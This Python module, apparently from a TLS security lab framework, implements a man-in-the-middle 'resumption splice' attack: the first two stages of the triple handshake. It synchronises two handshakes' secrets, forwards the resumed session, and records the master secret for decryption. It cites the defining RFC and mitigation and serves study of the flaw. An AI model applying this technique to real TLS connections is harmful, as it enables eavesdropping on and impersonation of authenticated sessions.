"""`resumption-splice`: two sessions with one secret, joined by resuming them (the triple handshake's first two stages).

In stage one Alice sits between teller and bank with a certificate of her own and makes both handshakes agree on
randoms, session id and pre-master secret. Both ends refuse the evidence, and both keep a session. In stage two the
teller resumes, Alice forwards every octet unchanged, and teller and bank share one channel whose keys she has. (The
designs of the ladder resume nothing; the lab lets both ends do it for this attack.)
"""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from trustlab import tls
from trustlab.attacks.alice.legs import TowardsClient
from trustlab.attacks.alice.middle import Middle
from trustlab.attacks.alice.tools import HTTPS, Alice
from trustlab.attacks.attack import Assumptions, Attack
from trustlab.attacks.programs.plain_wire import Forwarder, forwarded

if TYPE_CHECKING:
    from trustlab.cloud import Guest
    from trustlab.wire import Endpoint, WireConnection

ATTACK = Attack(
    name="resumption-splice",
    needs=(
        "owns the network between the VMs",
        "a CA that validates names across that network",
        "ends that resume TLS 1.2 sessions, without the extended master secret",
    ),
    steps=(
        "makes two handshakes agree on randoms, session id and pre-master secret",
        "forwards the teller's resumption to the bank, octet for octet",
        "decrypts the channel, because she knows the master secret",
    ),
    breaks="authenticity",
    why="A resumed handshake has neither certificate nor evidence; it relies on a secret that two sessions may share.",
    source="RFC 7627, 1; Bhargavan et al., Triple Handshakes (2014)",
    stopped_by="the session hash in the master secret; new evidence for every resumption",
    assumes=Assumptions(resumes=True),
    tls="1.2",
)


def start(guest: Guest) -> None:
    """Sit in the middle of the first connection, and forward the later ones unchanged."""
    alice = Alice(guest, ATTACK)
    identity = alice.rogue_identity()
    first: list[SynchronisingMiddle] = []

    def accept(connection: WireConnection) -> Endpoint:
        if first:
            sentence = f"forwards {connection.name} to the bank unchanged, and decrypts it with the secret she has."
            alice.tell("splice", sentence)
            return spliced(alice, connection, first[0].master)
        alice.tell("synchronise", "makes her session with the teller and the one with the bank share a secret.")
        first.append(SynchronisingMiddle(alice, connection, own=identity))
        return first[0]

    alice.take_place(accept)


class Synchroniser(TowardsClient):
    """Gives the bank's session id to the teller too, and keeps the master secret."""

    master = b""

    def handle(self, event: tls.Event) -> None:
        if isinstance(event, tls.SecretDerived) and event.label == "master_secret":
            self.master = event.value
        super().handle(event)

    def own_hello(self, own: tls.ServerHello, servers: tls.ServerHello) -> tls.ServerHello:
        """Copy the session id as well."""
        return replace(super().own_hello(own, servers), session_id=servers.session_id)


class SynchronisingMiddle(Middle):
    """Makes both of its handshakes agree on everything that makes a session."""

    leg_towards_client = Synchroniser

    @property
    def master(self) -> bytes:
        """The master secret of both sessions; b"" before there is one."""
        return self.leg.master if isinstance(self.leg, Synchroniser) else b""


class SessionReader(Forwarder):
    """The teller's end: notes for which client random the known master secret is used now."""

    def __init__(self, alice: Alice, connection: str, master: bytes) -> None:
        super().__init__()
        self._party = alice.guest.party
        self._connection = connection
        self._master = master
        self._heard = b""

    def receive(self, data: bytes) -> None:
        """Note the client's random when its hello passes."""
        if not self._heard:
            record = tls.split_records(data)[0][0]
            hello = tls.parse_message(record.content_type, record.fragment)
            self._heard = data
            if isinstance(hello, tls.ClientHello):
                self._party.secret(
                    "master_secret",
                    self._master,
                    connection=self._connection,
                    label="CLIENT_RANDOM",
                    client_random=hello.random.hex(),
                )
        super().receive(data)


def spliced(alice: Alice, connection: WireConnection, master: bytes) -> Forwarder:
    """Join the teller's connection to one of Alice's to the bank, octet for octet."""
    return forwarded(alice, HTTPS, connection, SessionReader(alice, connection.name, master))
